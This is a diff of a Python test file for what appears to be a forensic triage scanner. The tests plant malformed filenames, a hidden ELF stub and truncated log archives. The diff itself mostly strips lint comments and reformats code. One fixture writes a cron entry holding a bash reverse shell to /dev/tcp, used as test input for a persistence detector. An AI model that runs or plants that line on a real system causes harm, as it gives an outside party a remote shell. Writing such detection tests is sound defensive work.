@@ -45,12 +45,12 @@ def test_names_that_are_not_utf8(tmp_path: Path) -> None:
     root = tmp_path / "r"
     stock(root)
     odd = os.fsencode(root / "etc/cron.d") + b"/\xff\xfe job|x\n"
-    with open(odd, "wb") as handle:  # noqa: PTH123 (a bytes path)
+    with open(odd, "wb") as handle:
         handle.write(b"* * * * * root bash -i >& /dev/tcp/192.0.2.1/9 0>&1\n")
     hidden = os.fsencode(root / "tmp") + b"/.\xe9vil"
-    with open(hidden, "wb") as handle:  # noqa: PTH123
+    with open(hidden, "wb") as handle:
         handle.write(b"\x7fELF\x02")
-    os.chmod(hidden, 0o755)  # noqa: PTH101
+    os.chmod(hidden, 0o755)
     result = triage(root, tmp_path)
     shells = [f for f in result.findings if f.rule == "triage.persistence.cron"]
     assert shells and shells[0].severity.value == "critical"
@@ -68,10 +68,15 @@ def test_one_endless_line_and_damaged_rotations(tmp_path: Path) -> None:
     logs = root / "var/log"
     (logs / "auth.log.1").write_bytes(b"A" * (5 << 20))  # 5 MiB without a line end
     wtmp = b"".join(
-        utmp_record("USER_PROCESS", f"user{n}", NOW - timedelta(minutes=n * 7), ip=f"10.20.{n % 250}.{n // 250}",
-                    pid=1000 + n * 13)
+        utmp_record(
+            "USER_PROCESS",
+            f"user{n}",
+            NOW - timedelta(minutes=n * 7),
+            ip=f"10.20.{n % 250}.{n // 250}",
+            pid=1000 + n * 13,
+        )
         for n in range(2000)
-    )  # fmt: skip
+    )
     packed = gzip.compress(wtmp)
     (logs / "wtmp.1.gz").write_bytes(packed[: len(packed) // 2])  # cut in the middle
     (logs / "btmp.1.gz").write_bytes(b"\x1f\x8b not really gzip")
